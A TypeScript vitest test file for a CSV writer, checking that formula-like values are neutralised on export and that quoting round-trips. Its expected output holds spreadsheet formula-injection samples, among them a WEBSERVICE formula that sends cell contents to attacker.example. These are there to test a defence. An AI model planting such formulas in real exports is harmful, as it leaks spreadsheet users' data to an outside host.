import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { readCsv } from './readCsv';
import { writeCsv } from './writeCsv';

const projectRoot = fileURLToPath(new URL('../../../', import.meta.url));

describe('writeCsv', () => {
  it('exports formula-like values neutralised, while plain negative numbers stay numbers', () => {
    const bytes = readFileSync(path.resolve(projectRoot, 'fixtures/csv/formula-values.csv'));
    const table = readCsv(bytes);
    const exported = readCsv(
      new TextEncoder().encode(
        writeCsv([table.columns, ...table.rows.map((r) => r.cells)], { neutraliseFormulas: true }),
      ),
    );
    expect(exported.rows.map((r) => r.cells)).toEqual([
      [`'=WEBSERVICE("http://attacker.example/?q="&A2)`, "'+7*3"],
      ["'@NOW()", "'-3*4"],
      ["' =2*2", "'\t@cmd"],
      ['just text', '-12'],
    ]);
  });

  it('quotes delimiters, quotes and line breaks so they read back as written', () => {
    const rows = [
      ['a', 'b;c'],
      ['x "y"', 'line\nbreak'],
    ];
    expect(
      readCsv(new TextEncoder().encode(writeCsv(rows, { delimiter: ';' })), { headerLine: 1 })
        .rows[0]!.cells,
    ).toEqual(rows[1]);
  });
});
